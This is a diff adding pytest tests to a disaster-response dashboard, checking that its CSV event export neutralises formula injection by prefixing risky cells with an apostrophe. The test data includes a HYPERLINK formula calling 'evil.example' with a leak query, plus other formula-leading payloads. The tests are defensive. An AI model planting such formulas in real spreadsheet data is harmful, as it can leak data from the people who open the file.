@@ -8,10 +8,11 @@ from datetime import timedelta
 from zoneinfo import ZoneInfo
 
 import pytest
+from sqlalchemy import select
 
 from dashboard.services import chronology, delivery, directives, disaster, modes
 from dashboard.storage.db import transaction
-from dashboard.storage.models import DamageReport, ShelterStatus, utcnow
+from dashboard.storage.models import DamageReport, ShelterStatus, User, utcnow
 from tests.factories import CHUO, CITY, KITA, KITA_POINT
 
 
@@ -129,3 +130,28 @@ def test_csv_export_opens_in_excel(story):
         csv.reader(io.StringIO(chronology.events_csv(english, lang="en").decode("utf-8-sig")))
     )
     assert rows[0][0] == "Time" and rows[2][4] == "Answer (Done): 避難所を開設してください"
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak","click")', "=1+1", "@SUM(1)", "+1", "-2+3"]
+
+
+def _cells(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+
+
+def test_the_export_never_writes_a_formula(story):
+    """A display name typed as a formula reaches the CSV as text (issue 10 #6)."""
+    city, _, _ = story
+    with transaction(city.engine) as s:
+        s.scalars(select(User).where(User.username == "kita_head")).one().display_name = FORMULAS[0]
+    events = chronology.list_events(city.engine, city.mayor, kinds=["answer"])
+    rows = _cells(chronology.events_csv(events))
+    assert [r[3] for r in rows[1:]] == ["'" + FORMULAS[0]] * 2
+
+
+@pytest.mark.parametrize("payload", [*FORMULAS, "\t=1+1", "\r=1+1", "＝1+1"])
+def test_every_cell_starting_like_a_formula_is_neutralised(payload):
+    event = chronology.ChronologyEvent(utcnow(), "answer", frozenset(), payload, payload, payload)
+    row = _cells(chronology.events_csv([event]))[1]
+    assert row[2:] == ["'" + payload] * 3
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
